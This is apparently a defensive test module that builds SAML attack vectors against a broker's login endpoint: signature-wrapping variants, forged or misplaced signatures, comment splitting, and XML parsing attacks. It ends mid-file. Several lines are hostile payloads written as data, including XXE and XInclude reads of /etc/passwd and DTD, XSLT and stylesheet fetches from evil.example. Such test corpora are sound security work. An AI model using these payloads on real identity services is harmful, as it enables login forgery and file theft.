"""A generated corpus of SAML attacks on the broker's ACS, each one defect away from a genuinely signed response.

Every vector starts from a response the test IdP really signed (tests.harness → broker.demo.idp_response), then
changes one thing, so a refusal can only be caused by that change. Where an attack needs a signature only the
IdP could make (a signed LogoutResponse or metadata, SHA-1, inclusive c14n, two References), the IdP's real key
makes it, and SignedInfo edits are re-signed with it: the broker must refuse the *construct*, not a bad signature.

XSW1–XSW8 follow SAML Raider's numbering (Somorovsky et al., "On Breaking SAML", USENIX Security 2012). Each row
runs in the listed configurations: "assertion" (the IdP signs the Assertion, Entra's default) and/or "response".
"""

from __future__ import annotations

import copy
import re
import secrets
import zlib
from collections.abc import Callable
from dataclasses import dataclass, field, replace
from datetime import timedelta

from cryptography.hazmat.primitives import serialization
from lxml import etree
from signxml import CanonicalizationMethod, DigestAlgorithm, SignatureMethod

from broker.demo.idp_response import ENTRA_GROUPS
from broker.saml.xml import DS, SAML, format_instant, qname
from broker.saml.xmldsig import signature_placeholder
from tests.harness import ACS, ALEX, IDP_ENTITY, TENANT, Harness, Pending
from tests.security.forge import (
    ASSERTION,
    ATTACKER_NS,
    AUTHN_STATEMENT,
    CONDITIONS,
    CONFIRMATION,
    CONFIRMATION_DATA,
    DIGEST_VALUE,
    EMAIL_CLAIM,
    EVIL_EMAIL,
    EVIL_RESPONSE_ID,
    ISSUER,
    KEY_INFO,
    NAME_ID,
    REFERENCE,
    SCD,
    SIGNATURE,
    SIGNATURE_VALUE,
    SIGNED_INFO,
    STATUS,
    SUBJECT,
    TRANSFORMS,
    UPN_CLAIM,
    b64,
    custom_signed_root,
    emit,
    evil,
    extensions,
    now,
    parse,
    resign,
    set_identity,
    sign_custom,
    signature_of,
    signed_document,
    signed_logout_response,
    signed_metadata,
    unsigned_copy,
)

CONFIGS = ("assertion", "response")
BOTH, A, R = CONFIGS, ("assertion",), ("response",)

# The check names that may stop a family of attacks (a wrapping attack may hit any structural or signature rule).
WRAPPING = frozenset({"structure", "assertion", "signature"})
SIG = frozenset({"signature"})
XML = frozenset({"xml"})
IRT = frozenset({"in_response_to"})
TIME = frozenset({"time"})
UNSOLICITED = frozenset({"unsolicited"})


Make = Callable[
    [Harness, Pending], tuple[str, str | None]
]  # (harness, fresh login) → (SAMLResponse, RelayState)
Factory = Callable[[str], Make]  # configuration → Make
TreeEdit = Callable[[Harness, etree._Element, str], etree._Element | None]  # (harness, signed root, config)


@dataclass(frozen=True)
class Accepted:
    """For comment/CDATA splitting: the broker may accept, but must read the signed value in full."""

    full: str  # what the IdP signed
    truncated: str  # what a reader that stops at the comment would see: must never reach the portal
    attribute: str | None = None  # the outgoing attribute that carries it (None: the NameID)


@dataclass(frozen=True)
class Vector:
    name: str
    config: str  # "assertion" or "response": where the baseline is signed
    make: Make
    checks: frozenset[str]  # the check names that may refuse it; empty: refused outside SAML validation
    accepted: Accepted | None = None
    family: str = field(default="", compare=False)
    overrides: tuple[tuple[str, object], ...] = ()  # Harness config_overrides (e.g. allow unsolicited logins)
    shape: str = "entra"  # "okta": every baseline signature carries an InclusiveNamespaces PrefixList

    @property
    def id(self) -> str:
        prefix = "" if self.shape == "entra" else f"{self.shape}-"
        return f"{prefix}{self.config}:{self.name}"


Row = tuple[str, tuple[str, ...], Factory, frozenset[str]]


def table(family: str, rows: list[Row], **extra: object) -> list[Vector]:
    return [
        Vector(name, config, factory(config), checks, family=family, **extra)
        for name, configs, factory, checks in rows
        for config in configs
    ]


# --- how a vector is made -------------------------------------------------------------------------------------


def signed(**changes: object) -> Factory:
    """A defect the IdP itself signed (wrong audience, expired, ...)."""

    def factory(config: str) -> Make:
        def make(h: Harness, pending: Pending) -> tuple[str, str | None]:
            return b64(signed_document(h, pending, config, **changes)), pending.relay_state

        return make

    return factory


def edited(edit: TreeEdit, **changes: object) -> Factory:
    """A defect made after signing, on the parsed document."""

    def factory(config: str) -> Make:
        def make(h: Harness, pending: Pending) -> tuple[str, str | None]:
            root = parse(signed_document(h, pending, config, **changes))
            return b64(emit(edit(h, root, config) or root)), pending.relay_state

        return make

    return factory


def rewritten(edit: Callable[[bytes], bytes], **changes: object) -> Factory:
    """A defect made after signing, on the bytes (what an XML library could not even represent)."""

    def factory(config: str) -> Make:
        def make(h: Harness, pending: Pending) -> tuple[str, str | None]:
            return b64(edit(signed_document(h, pending, config, **changes))), pending.relay_state

        return make

    return factory


def signed_with(
    key: str = "idp",
    cert: str | None = None,
    *,
    method: SignatureMethod = SignatureMethod.RSA_SHA256,
    digest: DigestAlgorithm = DigestAlgorithm.SHA256,
    c14n: CanonicalizationMethod = CanonicalizationMethod.EXCLUSIVE_XML_CANONICALIZATION_1_0,
    **changes: object,
) -> Factory:
    """Signed with some key (KeyInfo carrying `cert`'s certificate), algorithm and canonicalisation."""

    def factory(config: str) -> Make:
        def make(h: Harness, pending: Pending) -> tuple[str, str | None]:
            private_key = getattr(h.keys, key).private_key
            certificate = [getattr(h.keys, cert or key).certificate]

            def sign(element: etree._Element) -> etree._Element:
                return sign_custom(
                    element, private_key, cert=certificate, method=method, digest=digest, c14n=c14n
                )

            return b64(emit(custom_signed_root(h, pending, config, sign, **changes))), pending.relay_state

        return make

    return factory


def hmac_signed(secret: Callable[[Harness], bytes]) -> Factory:
    def factory(config: str) -> Make:
        def make(h: Harness, pending: Pending) -> tuple[str, str | None]:
            def sign(element: etree._Element) -> etree._Element:
                return sign_custom(element, secret(h), method=SignatureMethod.HMAC_SHA256)

            return b64(emit(custom_signed_root(h, pending, config, sign))), pending.relay_state

        return make

    return factory


def same(make: Make) -> Factory:
    """A vector that builds its whole request itself."""
    return lambda config: make


def posted_with(factory: Factory, relay_state: str | None) -> Factory:
    def wrapped(config: str) -> Make:
        make = factory(config)
        return lambda h, pending: (make(h, pending)[0], relay_state)

    return wrapped


# --- XML Signature Wrapping -------------------------------------------------------------------------------------


def xsw1(h: Harness, root: etree._Element, config: str, lone: bool = False) -> None:
    """Evil Response (new ID, evil assertion) carrying the original signed Response inside its Signature.
    `lone`: the inner copy loses its assertion, so only signature rules (not counting) can stop it."""
    original = copy.deepcopy(root)
    if lone:
        original.remove(original.find(ASSERTION))
    root.set("ID", EVIL_RESPONSE_ID)
    root.replace(root.find(ASSERTION), evil(root.find(ASSERTION)))
    holder = etree.SubElement(root.find(SIGNATURE), qname(DS, "Object")) if lone else root.find(SIGNATURE)
    holder.append(original)


def xsw2(h: Harness, root: etree._Element, config: str, lone: bool = False) -> None:
    """Evil Response with the original signed Response beside (before) its Signature, detached."""
    original = copy.deepcopy(root)
    if lone:
        original.remove(original.find(ASSERTION))
    root.set("ID", EVIL_RESPONSE_ID)
    root.replace(root.find(ASSERTION), evil(root.find(ASSERTION)))
    root.find(SIGNATURE).addprevious(original)


def xsw3(h: Harness, root: etree._Element, config: str) -> None:
    """Evil assertion (new ID) before the signed one."""
    assertion = root.find(ASSERTION)
    assertion.addprevious(evil(assertion))


def xsw4(h: Harness, root: etree._Element, config: str) -> None:
    """The signed assertion moved inside the evil one."""
    assertion = root.find(ASSERTION)
    outer = evil(assertion)
    assertion.addprevious(outer)
    outer.append(assertion)


def xsw5(h: Harness, root: etree._Element, config: str) -> None:
    """Signed assertion changed in place (keeps its Signature); an unsigned copy of the original at the end."""
    assertion = root.find(ASSERTION)
    original = unsigned_copy(assertion)
    set_identity(assertion, EVIL_EMAIL)
    root.append(original)


def xsw6(h: Harness, root: etree._Element, config: str) -> None:
    """Signed assertion changed in place; the original (unsigned copy) inside its Signature."""
    assertion = root.find(ASSERTION)
    original = unsigned_copy(assertion)
    set_identity(assertion, EVIL_EMAIL)
    assertion.find(SIGNATURE).append(original)


def xsw7(h: Harness, root: etree._Element, config: str, same_id: bool = True) -> None:
    """The signed assertion moved into samlp:Extensions; an unsigned evil copy in its place."""
    assertion = root.find(ASSERTION)
    assertion.addprevious(evil(assertion, same_id=same_id))
    extensions(root).append(assertion)


def xsw8(h: Harness, root: etree._Element, config: str) -> None:
    """Signed assertion changed in place; the original (unsigned) in a ds:Object of its Signature."""
    assertion = root.find(ASSERTION)
    original = unsigned_copy(assertion)
    set_identity(assertion, EVIL_EMAIL)
    etree.SubElement(assertion.find(SIGNATURE), qname(DS, "Object")).append(original)


def wrapper(h: Harness, root: etree._Element, config: str) -> None:
    """The signed assertion moved into an unknown extension element; an evil assertion in its place."""
    assertion = root.find(ASSERTION)
    assertion.addprevious(evil(assertion))
    etree.SubElement(root, qname(ATTACKER_NS, "Wrapper"), nsmap={"w": ATTACKER_NS}).append(assertion)


def advice_wrapper(h: Harness, root: etree._Element, config: str) -> None:
    """The signed assertion moved into the evil assertion's saml:Advice (where assertions may legally sit)."""
    assertion = root.find(ASSERTION)
    outer = evil(assertion)
    assertion.addprevious(outer)
    advice = etree.Element(qname(SAML, "Advice"))
    outer.find(CONDITIONS).addnext(advice)
    advice.append(assertion)


def extra_before(h: Harness, root: etree._Element, config: str) -> None:
    root.find(ASSERTION).addprevious(evil(root.find(ASSERTION)))


def extra_after(h: Harness, root: etree._Element, config: str) -> None:
    root.find(ASSERTION).addnext(evil(root.find(ASSERTION)))


def nested_after_signing(h: Harness, root: etree._Element, config: str) -> None:
    root.find(ASSERTION).append(evil(root.find(ASSERTION)))


def advice_signed_by_idp(assertion: etree._Element) -> None:
    """Before signing: the IdP's own assertion carries another assertion in Advice (nested, all signed)."""
    advice = etree.Element(qname(SAML, "Advice"))
    assertion.find(CONDITIONS).addnext(advice)
    advice.append(evil(assertion))


def xsw_vectors() -> list[Vector]:
    return table("xsw", [
        ("xsw1", R, edited(xsw1), WRAPPING),
        ("xsw1_lone", R, edited(lambda h, root, c: xsw1(h, root, c, lone=True)), WRAPPING),
        ("xsw2", R, edited(xsw2), WRAPPING),
        ("xsw2_lone", R, edited(lambda h, root, c: xsw2(h, root, c, lone=True)), WRAPPING),
        ("xsw3", BOTH, edited(xsw3), WRAPPING),
        ("xsw4", BOTH, edited(xsw4), WRAPPING),
        ("xsw5", A, edited(xsw5), WRAPPING),
        ("xsw6", A, edited(xsw6), WRAPPING),
        ("xsw7", BOTH, edited(xsw7), WRAPPING),
        ("xsw7_new_id", BOTH, edited(lambda h, root, c: xsw7(h, root, c, same_id=False)), WRAPPING),
        ("xsw8", A, edited(xsw8), WRAPPING),
        ("wrapper", BOTH, edited(wrapper), WRAPPING),
        ("advice_wrapper", BOTH, edited(advice_wrapper), WRAPPING),
        ("extra_unsigned_before", BOTH, edited(extra_before), WRAPPING),
        ("extra_unsigned_after", BOTH, edited(extra_after), WRAPPING),
        ("nested_after_signing", BOTH, edited(nested_after_signing), WRAPPING),
        ("nested_assertion_signed_by_idp", BOTH, signed(edit_assertion=advice_signed_by_idp), WRAPPING),
    ])  # fmt: skip


# --- signed elements of the wrong type --------------------------------------------------------------------------


def logout_as_the_message(h: Harness, pending: Pending) -> tuple[str, str | None]:
    return b64(emit(signed_logout_response(h, pending.request_id))), pending.relay_state


def logout_beside_unsigned(h: Harness, root: etree._Element, config: str) -> None:
    extensions(root).append(signed_logout_response(h, root.get("InResponseTo")))


def logout_signature_on_assertion(h: Harness, root: etree._Element, config: str) -> None:
    logout = signed_logout_response(h, root.get("InResponseTo"))
    root.find(ASSERTION).insert(1, logout.find(SIGNATURE))
    extensions(root).append(logout)


def logout_in_place_of_assertion(h: Harness, root: etree._Element, config: str) -> None:
    root.replace(root.find(ASSERTION), signed_logout_response(h, root.get("InResponseTo")))


def metadata_signature_on_response(h: Harness, root: etree._Element, config: str) -> None:
    metadata = signed_metadata(h)
    root.insert(1, metadata.find(SIGNATURE))
    extensions(root).append(metadata)


def metadata_id_and_signature_on_response(h: Harness, root: etree._Element, config: str) -> None:
    metadata = signed_metadata(h)
    root.set("ID", metadata.get("ID"))
    root.insert(1, copy.deepcopy(metadata.find(SIGNATURE)))
    extensions(root).append(metadata)


def metadata_in_place_of_assertion(h: Harness, root: etree._Element, config: str) -> None:
    root.replace(root.find(ASSERTION), signed_metadata(h))


def wrong_type_vectors() -> list[Vector]:
    unsigned = {"sign": "none"}
    return table("wrong_type", [
        ("signed_logout_response_as_the_message", A, same(logout_as_the_message), XML),
        ("signed_logout_response_beside_unsigned_assertion", A, edited(logout_beside_unsigned, **unsigned), SIG),
        ("logout_response_signature_grafted_on_assertion", A, edited(logout_signature_on_assertion, **unsigned), SIG),
        ("signed_logout_response_in_place_of_assertion", R, edited(logout_in_place_of_assertion), WRAPPING),
        ("metadata_signature_grafted_on_response", R, edited(metadata_signature_on_response, **unsigned), SIG),
        ("metadata_id_and_signature_on_response", R, edited(metadata_id_and_signature_on_response, **unsigned),
         WRAPPING),
        ("signed_metadata_in_place_of_assertion", A, edited(metadata_in_place_of_assertion), WRAPPING),
    ])  # fmt: skip


# --- signature exclusion, foreign keys, forbidden constructs, algorithms -------------------------------------


def drop_signature(h: Harness, root: etree._Element, config: str) -> None:
    signature = signature_of(root, config)
    signature.getparent().remove(signature)


def in_signature(change: Callable[[etree._Element], None]) -> TreeEdit:
    """Edit the Signature outside SignedInfo: the signature itself still verifies."""
    return lambda h, root, config: change(signature_of(root, config))


def in_signed_info(change: Callable[[etree._Element], None]) -> TreeEdit:
    """Edit SignedInfo, then re-sign it with the IdP's key: only the construct is wrong, not the signature."""

    def edit(h: Harness, root: etree._Element, config: str) -> None:
        signature = signature_of(root, config)
        change(signature.find(SIGNED_INFO))
        resign(signature, h.keys.idp)

    return edit


def two_references(signed_info: etree._Element) -> None:
    reference = signed_info.find(REFERENCE)
    reference.addnext(copy.deepcopy(reference))


def empty_reference_uri(signed_info: etree._Element) -> None:
    signed_info.find(REFERENCE).set("URI", "")


def transform(algorithm: str, body: etree._Element) -> Callable[[etree._Element], None]:
    def change(signed_info: etree._Element) -> None:
        step = etree.SubElement(signed_info.find(f"{REFERENCE}/{TRANSFORMS}"), qname(DS, "Transform"))
        step.set("Algorithm", algorithm)
        step.append(copy.deepcopy(body))

    return change


XPATH = etree.Element(qname(DS, "XPath"), nsmap={"ds": DS})
XPATH.text = "not(ancestor-or-self::ds:Signature)"
XSLT = etree.fromstring(
    '<xsl:stylesheet xmlns:xsl="http://www.w3.org/1999/XSL/Transform" version="1.0"><xsl:template match="/">'
    "<xsl:value-of select=\"document('http://evil.example/x')\"/></xsl:template></xsl:stylesheet>"
)


def add_object(signature: etree._Element) -> None:
    etree.SubElement(etree.SubElement(signature, qname(DS, "Object")), qname(ATTACKER_NS, "Anything"))


def duplicate_child(tag: str) -> Callable[[etree._Element], None]:
    return lambda signature: signature.find(tag).addnext(copy.deepcopy(signature.find(tag)))


def duplicate_signature(signature: etree._Element) -> None:
    signature.addnext(copy.deepcopy(signature))


def set_text(path: str, text: str | None) -> Callable[[etree._Element], None]:
    def change(signature: etree._Element) -> None:
        signature.find(path).text = text

    return change


def signature_one_level_down(h: Harness, root: etree._Element, config: str) -> None:
    """Still valid (the enveloped transform ignores where the Signature sits), but not a direct child."""
    new_home = root.find(STATUS) if config == "response" else root.find(ASSERTION).find(SUBJECT)
    new_home.append(signature_of(root, config))


def foreign_signature_value(h: Harness, root: etree._Element, config: str) -> None:
    """SignatureValue lifted from another genuine signature by the same IdP key."""
    other = parse(signed_document(h, None, config))
    signature_of(root, config).find(SIGNATURE_VALUE).text = (
        signature_of(other, config).find(SIGNATURE_VALUE).text
    )


def changed_after_signing(h: Harness, root: etree._Element, config: str) -> None:
    set_identity(root.find(ASSERTION), EVIL_EMAIL)


def reference_to_another_element(config: str) -> Make:
    """A genuine IdP signature sitting on one element but covering another (the Response ↔ the Assertion)."""

    def make(h: Harness, pending: Pending) -> tuple[str, str | None]:
        root = parse(signed_document(h, pending, "none"))
        idp = {"key": h.keys.idp.private_key, "cert": [h.keys.idp.certificate]}
        if config == "assertion":  # inside the Assertion, Reference → the Response
            root.find(ASSERTION).insert(1, signature_placeholder())
            root = sign_custom(root, **idp)
        else:  # on the Response, Reference → the Assertion
            root.insert(1, signature_placeholder())
            root = sign_custom(root, **idp, reference_uri="#" + root.find(ASSERTION).get("ID"))
        return b64(emit(root)), pending.relay_state

    return make


def attacker_response_signature_over_signed_assertion(h: Harness, pending: Pending) -> tuple[str, str | None]:
    root = parse(signed_document(h, pending, "assertion"))
    root.insert(1, signature_placeholder())
    root = sign_custom(root, h.keys.attacker.private_key, cert=[h.keys.attacker.certificate])
    return b64(emit(root)), pending.relay_state


def attacker_signs_the_assertion(h: Harness) -> Callable[[etree._Element], None]:
    """edit_response hook: the IdP then signs a Response whose Assertion carries an attacker's signature."""

    def edit(response: etree._Element) -> None:
        assertion = response.find(ASSERTION)
        assertion.insert(1, signature_placeholder())
        attacker = h.keys.attacker
        response.replace(assertion, sign_custom(assertion, attacker.private_key, cert=[attacker.certificate]))

    return edit


def attacker_assertion_inside_signed_response(h: Harness, pending: Pending) -> tuple[str, str | None]:
    document = signed_document(h, pending, "response", edit_response=attacker_signs_the_assertion(h))
    return b64(document), pending.relay_state


def duplicate_inner_id(assertion: etree._Element) -> None:
    assertion.find(SUBJECT).set("ID", assertion.get("ID"))


def idp_certificate_pem(h: Harness) -> bytes:
    return h.keys.idp.certificate.public_bytes(serialization.Encoding.PEM)


C14N = CanonicalizationMethod
SHARED_ID = "_duplicate0000000000000000000000"
QUOTED_IDS = {"assertion_id": "_q'\"" + secrets.token_hex(8), "response_id": "_r'\"" + secrets.token_hex(8)}


def signature_vectors() -> list[Vector]:
    structure = frozenset({"structure"})
    return table("signature", [
        ("unsigned", A, signed(sign="none"), SIG),
        ("assertion_signature_removed", A, edited(drop_signature), SIG),
        ("response_signature_removed", R, edited(drop_signature), SIG),
        ("value_changed_after_signing", BOTH, edited(changed_after_signing), SIG),
        ("key_not_in_metadata_cert_in_keyinfo", BOTH, signed_with("attacker"), SIG),
        ("attacker_key_with_idp_cert_in_keyinfo", A, signed_with("attacker", cert="idp"), SIG),
        ("rollover_key_not_in_metadata", A, signed_with("idp_next"), SIG),
        ("another_upstreams_key", R, signed_with("okta"), SIG),
        ("attacker_response_signature_over_signed_assertion", A,
         same(attacker_response_signature_over_signed_assertion), SIG),
        ("attacker_assertion_signature_inside_signed_response", R,
         same(attacker_assertion_inside_signed_response), SIG),
        ("hmac_shared_secret", BOTH, hmac_signed(lambda h: b"attacker-chosen"), SIG),
        ("hmac_keyed_with_idp_certificate", A, hmac_signed(idp_certificate_pem), SIG),
        ("two_references", BOTH, edited(in_signed_info(two_references)), SIG),
        ("empty_reference_uri", BOTH, edited(in_signed_info(empty_reference_uri)), SIG),
        ("reference_to_another_element", BOTH, reference_to_another_element, SIG),
        ("xpath_transform", BOTH, edited(in_signed_info(transform("http://www.w3.org/TR/1999/REC-xpath-19991116", XPATH))), SIG),
        ("xslt_transform", A, edited(in_signed_info(transform("http://www.w3.org/TR/1999/REC-xslt-19991116", XSLT))), SIG),
        ("signature_not_a_direct_child", BOTH, edited(signature_one_level_down), SIG),
        ("ds_object_in_signature", BOTH, edited(in_signature(add_object)), SIG),
        ("two_signed_info", A, edited(in_signature(duplicate_child(SIGNED_INFO))), SIG),
        ("two_key_info", R, edited(in_signature(duplicate_child(KEY_INFO))), SIG),
        ("two_signatures", BOTH, edited(in_signature(duplicate_signature)), SIG),
        ("signature_value_emptied", A, edited(in_signature(set_text(SIGNATURE_VALUE, None))), SIG),
        ("signature_value_not_base64", R, edited(in_signature(set_text(SIGNATURE_VALUE, "!!not base64!!"))), SIG),
        ("digest_value_emptied", A, edited(in_signature(set_text(f"{SIGNED_INFO}/{REFERENCE}/{DIGEST_VALUE}", None))), SIG),
        ("signature_value_from_another_document", R, edited(foreign_signature_value), SIG),
        ("c14n_with_comments", A, signed_with(c14n=C14N.EXCLUSIVE_XML_CANONICALIZATION_1_0_WITH_COMMENTS), SIG),
        ("inclusive_c14n", R, signed_with(c14n=C14N.CANONICAL_XML_1_0), SIG),
        ("rsa_sha1", BOTH, signed(algorithm="rsa-sha1"), SIG),
        ("sha1_digest_with_rsa_sha256", A, signed_with(digest=DigestAlgorithm.SHA1), SIG),
        ("rsa_sha1_with_sha256_digest", R, signed_with(method=SignatureMethod.RSA_SHA1), SIG),
        ("rsa_sha224", A, signed_with(method=SignatureMethod.RSA_SHA224, digest=DigestAlgorithm.SHA224), SIG),
        ("response_and_assertion_share_an_id", BOTH, signed(response_id=SHARED_ID, assertion_id=SHARED_ID), structure),
        ("duplicate_id_on_inner_element", A, signed(edit_assertion=duplicate_inner_id), structure),
        ("id_with_quotes", BOTH, signed(**QUOTED_IDS), structure | XML | SIG),
    ])  # fmt: skip


# --- comment and CDATA splitting (the broker must read the signed value in full) ------------------------------

FULL = "victim@corp.com.evil.com"  # what the attacker legitimately got the IdP to sign
TRUNCATED = "victim@corp.com"  # what a reader stopping at the first text node would see


def without_email_claims() -> dict[str, list[str]]:
    attributes = ALEX.entra_attributes(TENANT)
    del attributes[EMAIL_CLAIM], attributes[UPN_CLAIM]
    return attributes


def split(full: str, head: str, inserted: str) -> Callable[[bytes], bytes]:
    """Insert `inserted` (a comment, a CDATA section) after `head` in the first text node equal to `full`."""
    assert full.startswith(head)
    replacement = f">{head}{inserted}{full[len(head) :]}<".encode()
    return lambda document: document.replace(f">{full}<".encode(), replacement, 1)


def cdata_tail(document: bytes) -> bytes:
    """`victim@corp.com<![CDATA[.evil.com]]>`: the tail of the signed value in a CDATA section."""
    return document.replace(f">{FULL}<".encode(), f">{TRUNCATED}<![CDATA[.evil.com]]><".encode(), 1)


def comment_vectors() -> list[Vector]:
    in_name_id = {"name_id": FULL, "attributes": without_email_claims()}
    in_email = {"attributes": without_email_claims() | {EMAIL_CLAIM: [FULL]}}
    in_groups = {"attributes": ALEX.entra_attributes(TENANT) | {ENTRA_GROUPS: ["sales-readonly"]}}
    name_id, email = Accepted(FULL, TRUNCATED), Accepted(FULL, TRUNCATED, EMAIL_CLAIM)
    group = Accepted("sales-readonly", "sales", "groups")
    rows = [
        ("comment_in_name_id", BOTH, rewritten(split(FULL, TRUNCATED, "<!---->"), **in_name_id), name_id),
        ("empty_cdata_in_name_id", BOTH, rewritten(split(FULL, TRUNCATED, "<![CDATA[]]>"), **in_name_id), name_id),
        ("cdata_tail_in_name_id", A, rewritten(cdata_tail, **in_name_id), name_id),
        ("comment_in_email_attribute", A, rewritten(split(FULL, TRUNCATED, "<!---->"), **in_email), email),
        ("comment_in_group_value", R, rewritten(split("sales-readonly", "sales", "<!-- x -->"), **in_groups), group),
    ]  # fmt: skip
    return [
        replace(vector, accepted=accepted)
        for name, configs, factory, accepted in rows
        for vector in table("comment", [(name, configs, factory, frozenset())])
    ]


# --- parsing: DOCTYPE, entities, processing instructions, encodings, sizes ------------------------------------

DECLARATION_END = b"?>\n"
NAME_ID_TEXT = re.compile(rb"(<NameID[^>]*>)[^<]*")


def after_declaration(insert: bytes) -> Callable[[bytes], bytes]:
    def edit(document: bytes) -> bytes:
        head, rest = document.split(DECLARATION_END, 1)
        return head + DECLARATION_END + insert + rest

    return edit


def name_id_text(text: bytes, doctype: bytes = b"") -> Callable[[bytes], bytes]:
    """Replace the NameID's text (after signing), optionally declaring a DOCTYPE for it."""

    def edit(document: bytes) -> bytes:
        return after_declaration(doctype)(NAME_ID_TEXT.sub(lambda m: m.group(1) + text, document, count=1))

    return edit


def before_end(insert: bytes) -> Callable[[bytes], bytes]:
    return lambda document: document.replace(b"</samlp:Response>", insert + b"</samlp:Response>")


LOL = b"".join(b'<!ENTITY lol%d "%s">' % (i, (b"&lol%d;" % (i - 1)) * 10) for i in range(1, 10))
BILLION_LAUGHS = b'<!DOCTYPE samlp:Response [<!ENTITY lol0 "lol">' + LOL + b"]>"
XXE = b'<!DOCTYPE samlp:Response [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
EXTERNAL_DTD = b'<!DOCTYPE samlp:Response SYSTEM "http://evil.example/saml.dtd">'
PARAMETER_ENTITY = b'<!DOCTYPE samlp:Response [<!ENTITY % p SYSTEM "http://evil.example/p.dtd"> %p;]>'
# CVE-2025-25292 (ruby-saml): an ATTLIST default puts an element into a namespace for one parser and not another;
# here an unprefixed evil <Assertion> becomes a SAML assertion only for a parser that applies DTD defaults.
ATTLIST = (
    b'<!DOCTYPE samlp:Response [<!ATTLIST Assertion xmlns CDATA "urn:oasis:names:tc:SAML:2.0:assertion">]>'
)
UNPREFIXED_EVIL = (
    b'<Assertion ID="_attlist" Version="2.0"><Issuer>' + IDP_ENTITY.encode() + b"</Issuer><Subject><NameID>"
    + EVIL_EMAIL.encode() + b"</NameID></Subject></Assertion>"
)  # fmt: skip
XINCLUDE = b'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/>'
STYLESHEET_PI = b'<?xml-stylesheet type="text/xsl" href="http://evil.example/x.xsl"?>'
DEEP = b'<w:n xmlns:w="urn:x-attacker">' * 3000 + b"</w:n>" * 3000


def oversized(size: Callable[[Harness], int]) -> Make:
    def make(h: Harness, pending: Pending) -> tuple[str, str | None]:
        document = signed_document(h, pending, "assertion")
        padding = b"<!--" + b" " * (size(h) - len(document)) + b"-->"  # spaces: base64 without '+' or '/'
        return b64(before_end(padding)(document)), pending.relay_state

    return make


def raw(value: Callable[[bytes], str]) -> Make:
    """SAMLResponse is not base64 of an XML document, or not even base64."""

    def make(h: Harness, pending: Pending) -> tuple[str, str | None]:
        return value(signed_document(h, pending, "assertion")), pending.relay_state

    return make


def deflated(document: bytes) -> str:
    compressor = zlib.compressobj(wbits=-15)  # HTTP-Redirect binding encoding, on the POST binding
    return b64(compressor.compress(document) + compressor.flush())


def bare_signed_assertion(h: Harness, pending: Pending) -> tuple[str, str | None]:
    root = parse(signed_document(h, pending, "assertion"))
    return b64(etree.tostring(root.find(ASSERTION))), pending.relay_state


def max_bytes(h: Harness) -> int:
    return h.config.broker.max_response_bytes


def parsing_vectors() -> list[Vector]:
    return table("parsing", [
        ("xxe_external_entity", A, rewritten(name_id_text(b"&xxe;", XXE)), XML),
        ("billion_laughs", A, rewritten(name_id_text(b"&lol9;", BILLION_LAUGHS)), XML),
        ("external_dtd", A, rewritten(after_declaration(EXTERNAL_DTD)), XML),
        ("parameter_entity", A, rewritten(after_declaration(PARAMETER_ENTITY)), XML),
        ("doctype_attlist_default_namespace", A,
         rewritten(lambda d: after_declaration(ATTLIST)(before_end(UNPREFIXED_EVIL)(d))), XML),
        ("doctype_lower_case", A, rewritten(after_declaration(b"<!doctype samlp:Response>")), XML),
        ("undeclared_entity_reference", A, rewritten(name_id_text(b"&evil;")), XML),
        ("processing_instruction_before_root", A, rewritten(after_declaration(STYLESHEET_PI)), XML),
        ("processing_instruction_in_name_id", A, rewritten(name_id_text(b"alex@contoso.example<?evil x?>")), XML),
        ("processing_instruction_after_root", A, rewritten(lambda d: d + b"<?evil after-root?>"), XML),
        ("xinclude_in_name_id", A, rewritten(name_id_text(XINCLUDE)), frozenset({"signature", "structure", "xml"})),
        ("deeply_nested_elements", A, rewritten(before_end(DEEP)), XML),
        ("second_root_element", A, rewritten(lambda d: d + d.split(DECLARATION_END, 1)[1]), XML),
        ("truncated_document", A, rewritten(lambda d: d[: len(d) // 2]), XML),
        ("invalid_utf8_byte", A, rewritten(lambda d: d.replace(b"alex@contoso", b"alex\xff@contoso", 1)), XML),
        ("oversized_message", A, same(oversized(lambda h: max_bytes(h) + 512)), XML),
        ("oversized_request_body", A, same(oversized(lambda h: max_bytes(h) * 2)), frozenset({"size"})),
        ("malformed_base64", A, same(raw(lambda d: b64(d)[:-3] + "!*~")), XML),
        ("base64_non_ascii", A, same(raw(lambda d: b64(d)[:40] + "é" + b64(d)[40:])), XML),
        ("not_xml_at_all", A, same(raw(lambda d: b64(b"user=ceo@contoso.example;admin=true"))), XML),
        ("json_instead_of_xml", A, same(raw(lambda d: b64(b'{"NameID": "ceo@contoso.example"}'))), XML),
        ("deflated_redirect_encoding", A, same(raw(deflated)), XML),
        ("empty_saml_response", A, same(raw(lambda d: "")), XML),
        ("bare_signed_assertion", A, same(bare_signed_assertion), XML),
    ])  # fmt: skip


# --- protocol: issuer, destination, recipient, audience, time, status, InResponseTo ---------------------------


def set_attributes(
    path: str | None, **attrs: str | Callable[[], str] | None
) -> Callable[[etree._Element], None]:
    """An edit_assertion / edit_response hook (before signing): set or remove attributes of one element. A
    callable value is called when the response is made (times relative to the attack, not to the import)."""

    def edit(top: etree._Element) -> None:
        element = top if path is None else top.find(path)
        for name, value in attrs.items():
            if value is None:
                element.attrib.pop(name, None)
            else:
                element.set(name, value() if callable(value) else value)

    return edit


def set_issuer(value: str) -> Callable[[etree._Element], None]:
    def edit(element: etree._Element) -> None:
        element.find(ISSUER).text = value

    return edit


def later(minutes: int, *, cut: int = 0) -> Callable[[], str]:
    """`minutes` from when the vector is made (the corpus is built at import, minutes before some vectors run)."""
    return lambda: format_instant(now() + timedelta(minutes=minutes))[: -cut or None]


def second_audience_restriction(assertion: etree._Element) -> None:
    restriction = etree.SubElement(assertion.find(CONDITIONS), qname(SAML, "AudienceRestriction"))
    etree.SubElement(restriction, qname(SAML, "Audience")).text = OTHER_SP


def no_audience_restriction(assertion: etree._Element) -> None:
    conditions = assertion.find(CONDITIONS)
    conditions.remove(conditions.find(qname(SAML, "AudienceRestriction")))


def unknown_condition(assertion: etree._Element) -> None:
    etree.SubElement(assertion.find(CONDITIONS), qname(SAML, "Condition"))


def second_confirmation(assertion: etree._Element) -> None:
    confirmation = assertion.find(f"{SUBJECT}/{CONFIRMATION}")
    other = copy.deepcopy(confirmation)
    other.find(CONFIRMATION_DATA).set("Recipient", OTHER_ACS)
    confirmation.addnext(other)


def name_id_child(assertion: etree._Element) -> None:
    etree.SubElement(assertion.find(f"{SUBJECT}/{NAME_ID}"), qname(SAML, "Extra")).text = ".evil.com"


